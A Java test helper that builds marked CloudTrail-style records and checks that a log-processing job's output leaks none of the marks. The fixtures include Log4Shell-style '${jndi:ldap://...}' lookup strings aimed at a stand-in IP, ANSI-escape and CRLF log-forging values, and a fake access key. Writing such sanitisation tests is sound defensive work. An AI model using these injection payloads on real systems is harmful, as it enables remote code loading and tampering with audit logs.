package io.sharetrail.cluster;

import io.sharetrail.Story;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.UUID;
import java.util.regex.Pattern;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.header.internals.RecordHeader;

/**
 * Records whose every telling part carries a mark, of all the kinds that the job treats differently
 * and that do not depend on what was read before; and the search for those marks.
 */
final class Marks {

  private static final String ACTOR = "marked-actor";
  private static final String KEY = "AKIAMARKEDSTREXAMPLE";
  private static final String ADDRESS = "203.0.113.199";
  private static final String SNAPSHOT = "snap-0123feedf00dfeed0";
  private static final String PARAMETER = "marked-parameter";
  private static final String LOOKUP = "${jndi:ldap://" + ADDRESS + "/marked-lookup}";
  private static final String FORGED = "marked-line";

  /** What a log must not hold, by what it is; the last as it does what it does to a terminal. */
  private static final Map<String, Pattern> FORBIDDEN =
      new TreeMap<>(
          Map.of(
              "actor", Pattern.compile(ACTOR),
              "access key", Pattern.compile(KEY),
              "address", Pattern.compile(Pattern.quote(ADDRESS)),
              "snapshot", Pattern.compile(SNAPSHOT),
              "request parameter", Pattern.compile(PARAMETER),
              "lookup", Pattern.compile("\\$\\{jndi"),
              "forged line", Pattern.compile(FORGED),
              "control character", Pattern.compile("[\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\u202e]")));

  private static final String TIME = "2025-03-12T03:14:00Z";

  private Marks() {}

  /** A share with a foreign account: an alert. */
  static String share(String time) {
    return call(time, "ModifySnapshotAttribute")
        .replace(
            "\"requestParameters\":{",
            "\"requestParameters\":{\"snapshotId\":\""
                + SNAPSHOT
                + "\",\"attributeType\":\"CREATE_VOLUME_PERMISSION\","
                + "\"createVolumePermission\":{\"add\":{\"items\":[{\"userId\":\"444455556666\"}]}},");
  }

  /** A share of the year 2099, whose time is not believed. */
  static String fromTheFuture() {
    return share("2099-01-01T00:00:00Z");
  }

  /** Everything else: events of all kinds, skips, and a dead letter of each reason. */
  static List<byte[]> others() {
    String share = share(TIME);
    String failed =
        share.replace(
            "\"eventType\"",
            "\"errorCode\":\"Client."
                + FORGED
                + "\",\"errorMessage\":\""
                + LOOKUP
                + "\",\"eventType\"");
    List<String> all = new ArrayList<>();
    all.add(share);
    all.add(failed);
    all.add(call(TIME, "CreateSnapshot"));
    all.add(call(TIME, "${jndi:ldap://" + ADDRESS + "/marked-name}"));
    all.add(share.replace("\"Management\"", "\"Insight\"")); // skipped
    all.add(share.substring(0, share.length() - 40)); // truncated
    all.add(share.replace("\"eventName\":", "\"eventName\":,")); // malformed
    all.add(share.replace("\"ModifySnapshotAttribute\"", "[\"" + FORGED + "\"]")); // wrong type
    all.add(share.replace(TIME, FORGED + "\\u001b[31m")); // a time that is none
    all.add(share.replace("\"Management\"", "[".repeat(500) + "]".repeat(500))); // too deep
    all.add("{\"hello\":\"" + share.replace("\"", "\\\"") + "\"}"); // no event
    all.add(ACTOR + " \u001b[31m\r\n" + FORGED + " ERROR " + LOOKUP + ' ' + ADDRESS); // no JSON
    all.add("{\"message\":\"" + LOOKUP + ' ' + KEY + ' ' + SNAPSHOT + "\"}");
    all.add("{\"Records\":[" + share + ",{\"eventName\":7}," + share.substring(0, 300));
    List<byte[]> records = new ArrayList<>();
    all.forEach(text -> records.add(text.getBytes(StandardCharsets.UTF_8)));
    return records;
  }

  /** Of records whose values are those above. */
  static String key() {
    return ACTOR + "\u001b[31m" + LOOKUP;
  }

  /** Of the same records. */
  static List<Header> headers() {
    byte[] value = (LOOKUP + "\u001b[31m\r\n" + FORGED).getBytes(StandardCharsets.UTF_8);
    return List.of(new RecordHeader(ACTOR + LOOKUP, value), new RecordHeader(KEY, (byte[]) null));
  }

  private static String call(String time, String name) {
    String line =
        Story.named("smash-and-grab").lines().stream()
            .filter(each -> each.contains("\"CreateSnapshot\""))
            .findFirst()
            .orElseThrow();
    return line.replaceFirst("\"eventTime\":\"[^\"]*\"", "\"eventTime\":\"" + time + '"')
        .replaceFirst("\"eventID\":\"[^\"]*\"", "\"eventID\":\"" + UUID.randomUUID() + '"')
        .replaceFirst("\"sourceIPAddress\":\"[^\"]*\"", "\"sourceIPAddress\":\"" + ADDRESS + '"')
        .replaceFirst("\"userAgent\":\"[^\"]*\"", agent())
        .replace("user/alice", "user/" + ACTOR)
        .replace("\"alice\"", '"' + ACTOR + '"')
        .replaceFirst("AKIA[A-Z0-9]*", KEY)
        .replaceFirst("snap-[0-9a-f]+", SNAPSHOT)
        .replace("\"CreateSnapshot\"", '"' + name + '"')
        .replace(
            "\"requestParameters\":{",
            "\"requestParameters\":{\"description\":\"" + PARAMETER + "\",");
  }

  private static String agent() {
    String agent = FORGED + "\\\\u001b[31m\\\\r\\\\n" + FORGED + "\\\\u202e ";
    return "\"userAgent\":\"" + agent + LOOKUP.replace("$", "\\$") + '"';
  }

  /** Lines of a log that hold a mark, with what it is; empty if none does. */
  static List<String> in(String log) {
    List<String> found = new ArrayList<>();
    log.lines()
        .forEach(
            line ->
                FORBIDDEN.forEach(
                    (what, pattern) -> {
                      if (pattern.matcher(line).find()) {
                        found.add(what + ": " + line);
                      }
                    }));
    return found;
  }
}
